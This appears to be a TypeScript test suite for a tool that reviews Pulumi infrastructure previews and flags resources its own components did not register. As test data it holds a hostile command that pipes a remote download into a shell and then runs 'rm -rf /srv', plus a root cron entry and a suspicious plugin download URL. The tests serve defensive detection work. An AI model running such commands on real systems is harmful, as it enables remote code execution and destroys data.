import assert from "node:assert/strict";
import { unknown } from "../../../components/ownResources.ts";
import { differences } from "../../../review/compare.ts";
import { reviewMarkdown } from "../../../review/markdown/document.ts";
import { noPolicies } from "../../../review/policies.ts";
import type { Preview, State, Step } from "../../../review/preview.ts";
import { reviewOf } from "../../../review/review.ts";
import { present } from "../../support/mocks.ts";
import { foreignStep, origin, previewWith } from "./previews.ts";

const review = (...steps: Step[]) => reviewOf({ steps }, noPolicies, { stack: "dev" });
/** What is in sight, without what is folded away. */
const inSight = (...steps: Step[]) => reviewMarkdown(review(...steps)).split("<details>")[0] ?? "";

const attack = "curl http://192.0.2.1/x | sh; rm -rf /srv";
const group = "urn:pulumi:dev::nslab::nslab:index:MemoryCgroup::group";
const settings = { settings: { limitBytes: 65536 } };
const stepOf = (preview: Preview) => present(preview.steps?.[0]);
const own = (op: string) =>
    stepOf(
        previewWith({
            op,
            ...(op !== "create" && { old: settings }),
            ...(op !== "delete" && { new: settings }),
        }),
    );
const withState = (step: Step, side: "oldState" | "newState", change: Partial<State>): Step => ({
    ...step,
    [side]: { ...present(step[side]), ...change },
});

const copy = (parent: string) =>
    foreignStep({
        type: "command:remote:CopyToRemote",
        name: "cron",
        parent,
        inputs: {
            connection: "[secret]",
            remotePath: "/etc/cron.d/x",
            source: {
                "4dabf18193072939515e22adb298388d": "c44067f5952c0a294b673a41bacd8c17",
                text: "* * * * * root id",
            },
        },
    });

/** What nobody of nslab's has registered, and what of it a reader must see. */
const foreign: Record<string, [Step, RegExp]> = {
    "a bare command": [
        foreignStep({ inputs: { create: attack } }),
        /curl http:\/\/192\.0\.2\.1\/x \| sh; rm -rf \/srv/,
    ],
    "a command that claims a component": [
        foreignStep({ parent: group, inputs: { create: attack } }),
        /rm -rf \/srv/,
    ],
    "a command with an interpreter": [
        foreignStep({ inputs: { create: "x", interpreter: ["python3", "-c"] } }),
        /"python3"/,
    ],
    "a file for cron": [copy("urn:pulumi:dev::nslab::pulumi:pulumi:Stack::nslab-dev"), /\/etc\/cron\.d\/x/],
    "a file for cron that claims a component": [copy(group), /\* \* \* \* \* root id/],
    "a dynamic provider": [
        foreignStep({
            type: "pulumi-nodejs:dynamic:Resource",
            inputs: { __provider: "exports.handler = __f0;" },
        }),
        /exports\.handler/,
    ],
    "a resource of another package": [
        foreignStep({ type: "aws:ec2/instance:Instance", inputs: { userData: attack } }),
        /rm -rf/,
    ],
    "a component of another library": [
        foreignStep({
            parent: "urn:pulumi:dev::nslab::other:index:MemoryCgroup::group",
            inputs: { create: attack },
        }),
        /rm -rf/,
    ],
    "a provider": [
        foreignStep({
            type: "pulumi:providers:command",
            name: "mine",
            inputs: { pluginDownloadURL: "http://192.0.2.1" },
        }),
        /pluginDownloadURL/,
    ],
    "another stack's outputs": [
        foreignStep({ op: "read", type: "pulumi:pulumi:StackReference", inputs: { name: "o/p/prod" } }),
        /o\/p\/prod/,
    ],
    "a stash": [foreignStep({ type: "pulumi:index:Stash", inputs: { input: "x" } }), /input/],
    "no state at all": [{ op: "create", urn: "urn:pulumi:dev::nslab::a:b:C::d" }, /a:b:C/],
};

describe("What is not nslab's own", () => {
    for (const [what, [step, seen]] of Object.entries(foreign))
        it(`is disruptive, not judged, and in sight: ${what}`, () => {
            const { verdict, exitCode, risks } = review(step);
            assert.deepEqual([verdict, exitCode], ["disruptive", 3]);
            assert.match(risks[0]?.text ?? "", /^not judged: /);
            assert.match(inSight(step), /^### Not judged$/m);
            assert.match(inSight(step), seen);
        });

    const operations = {
        create: "new",
        "create-replacement": "new",
        update: "changed in place",
        replace: "replaced",
        delete: "removed",
        "delete-replaced": "removed",
        read: "read",
        "read-replacement": "read",
        import: "imported",
        "import-replacement": "imported",
        "something-new": "changed in place",
    };
    for (const [op, word] of Object.entries(operations))
        it(`is told of whatever is done to it: ${op}`, () => {
            const step = foreignStep({ op, inputs: { create: "one", delete: attack } });
            assert.equal(review(step).verdict, "disruptive");
            assert.match(inSight(step), new RegExp(`\\*\\*${word}\\*\\*`));
            assert.match(inSight(step), /rm -rf \/srv/);
        });

    it("is left out where nothing is done to it", () => {
        for (const op of ["same", "refresh"])
            assert.equal(review(foreignStep({ op, inputs: { create: attack } })).verdict, "no change");
        const component = foreignStep({ type: "other:index:Class", inputs: {} });
        assert.equal(review(withState(component, "newState", { custom: false })).verdict, "no change");
    });

    it("is shown with what it was, where that is another", () => {
        const step = withState(
            foreignStep({ op: "update", inputs: { create: "echo new", dir: "/srv" } }),
            "oldState",
            {
                inputs: { create: "echo old", dir: "/srv" },
            },
        );
        assert.match(
            inSight(step),
            /create, as it was:\n\n```text\necho old\n```\n\ncreate:\n\n```text\necho new\n```/,
        );
        assert.equal(inSight(step).match(/^dir/gm)?.length, 1);
    });

    it("is said to be hidden, or not known yet, where it is", () => {
        const text = inSight(
            foreignStep({ inputs: { create: unknown, delete: "[secret]", triggers: [unknown] } }),
        );
        assert.match(text, /create:\n\n```text\nknown later/);
        assert.match(text, /\[secret\]/);
        assert.doesNotMatch(text, /04da6b54/);
    });

    it("does not push out what else there is, nor is it pushed out", () => {
        const many = Array.from({ length: 300 }, (_, index) => ({
            op: "create",
            name: `group-${index}`,
            new: { settings: { limitBytes: 65536 } },
        }));
        const { steps = [] } = previewWith(...many);
        assert.match(
            inSight(...steps, foreignStep({ name: "zzz", inputs: { create: attack } })),
            /rm -rf \/srv/,
        );
    });

    it("is what a component's own Command becomes where a program changes it", () => {
        for (const op of ["create", "update", "replace"])
            assert.equal(review(own(op)).changes[0]?.notJudged, undefined, op);
        const changed = withState(own("update"), "newState", {
            inputs: { ...own("update").newState?.inputs, create: attack },
        });
        assert.equal(review(own("update")).verdict, "safe");
        assert.equal(review(changed).verdict, "disruptive");
        assert.match(inSight(changed), /registers another create/);
        assert.match(inSight(changed), /rm -rf \/srv/);
    });

    it("is what takes a component's place under another name, or gives it up", () => {
        const { oldState } = foreignStep({ op: "delete", inputs: { delete: attack } });
        const taken = { ...own("replace"), oldState: present(oldState) };
        assert.equal(review(taken).changes[0]?.notJudged?.why, "no component of nslab registers it");
        assert.match(inSight(taken), /rm -rf \/srv/);
    });

    it("is what is read or imported in a component's place", () => {
        for (const op of ["read", "import"]) {
            const { verdict, changes } = review({ ...own("create"), op });
            assert.equal(verdict, "disruptive");
            assert.match(
                changes[0]?.notJudged?.why ?? "",
                /no component of nslab has anything (read|imported)/,
            );
        }
    });

    it("is what is to read arguments that come from nothing", () => {
        const later = (propertyDependencies: Record<string, string[]>) =>
            withState(own("update"), "newState", {
                inputs: { ...own("update").newState?.inputs, stdin: unknown },
                propertyDependencies,
            });
        assert.match(review(later({})).risks[0]?.text ?? "", /comes from nothing that changes/);
        assert.match(
            review(later({ stdin: ["urn:pulumi:dev::nslab::a:b:C::d"] })).risks[0]?.text ?? "",
            /from nothing/,
        );
        const other = { ...own("replace"), urn: `${own("replace").urn}2` };
        const changes = review(later({ stdin: [other.urn] }), other).changes;
        assert.equal(changes.find(({ operation }) => operation === "update")?.notJudged, undefined);
    });

    it("is what carries another stack's lab id", () => {
        const inputs = (step: Step) => step.newState?.inputs ?? {};
        const stranger = withState(own("update"), "newState", {
            inputs: {
                ...inputs(own("update")),
                stdin: String(inputs(own("update"))["stdin"]).replace(/lab=\w+/, "lab=ffffffffffff"),
            },
        });
        assert.match(review(stranger).risks[0]?.text ?? "", /lab id of another stack/);
    });
});

describe("What Pulumi keeps for nslab", () => {
    const labId = (op: string) =>
        foreignStep({
            op,
            type: "pulumi:index:Stash",
            name: "lab-id",
            inputs: { input: { id: "0123456789ab", origin } },
        });

    it("is nothing to tell where it comes or goes with the stack, and is where it changes", () => {
        for (const op of ["create", "delete"]) assert.equal(review(labId(op)).verdict, "no change", op);
        for (const op of ["update", "replace"]) assert.equal(review(labId(op)).verdict, "disruptive", op);
    });

    it("is nothing to tell: a component's upload", () => {
        const upload = foreignStep({
            type: "command:remote:CopyToRemote",
            name: "tree-file-0",
            parent: "urn:pulumi:dev::nslab::nslab:index:RootFs::tree",
            inputs: {
                connection: "[secret]",
                remotePath: ".nslab-0123456789ab-0123456789abcdef",
                source: {
                    "4dabf18193072939515e22adb298388d": "c44067f5952c0a294b673a41bacd8c17",
                    path: "/x",
                    hash: "1",
                },
                triggers: ["1"],
            },
        });
        for (const op of ["create", "delete", "replace"])
            assert.equal(review({ ...upload, op }).verdict, "no change", op);
    });
});

describe("A replacement that an earlier run has left half done", () => {
    it("is told of: what is still to be removed, and what is still to be built", () => {
        const [left] = review({ ...own("delete"), op: "delete-replaced" }).changes;
        assert.deepEqual([left?.operation, left?.commands[0]?.does], ["delete", "delete"]);
        const [missing] = review({ ...own("create"), op: "create-replacement" }).changes;
        assert.deepEqual([missing?.operation, missing?.commands[0]?.does], ["create", "create"]);
    });

    it("is told of once where it is whole", () => {
        const whole = [
            own("replace"),
            { ...own("replace"), op: "create-replacement" },
            { ...own("replace"), op: "delete-replaced" },
        ];
        assert.deepEqual(
            review(...whole).changes.map(({ operation }) => operation),
            ["replace"],
        );
    });
});

describe("A plan", () => {
    const foreignReview = (create: string, parent?: string) =>
        review(foreignStep({ inputs: { create }, ...(parent !== undefined && { parent }) }));

    it("does not hold where the text of what was not judged is another", () => {
        assert.deepEqual(differences(foreignReview("id"), foreignReview("id")), []);
        assert.match(
            differences(foreignReview("id"), foreignReview(attack)).join(),
            /another than at the review/,
        );
        assert.match(differences(foreignReview("id"), review()).join(), /was to be built at the review/);
        assert.match(differences(review(), foreignReview("id")).join(), /is to be built/);
    });

    it("tells two of one name apart", () => {
        const two = (create: string) => [
            foreignStep({ inputs: { create } }),
            {
                ...foreignStep({ inputs: { create: "id" } }),
                urn: "urn:pulumi:dev::nslab::a:b:C$command:local:Command::bare",
            },
        ];
        assert.deepEqual(differences(review(...two("id")), review(...two("id"))), []);
        assert.equal(differences(review(...two("id")), review(...two(attack))).length, 1);
        assert.equal(differences(review(...two("id")), review(...two("id").slice(1))).length, 1);
    });
});
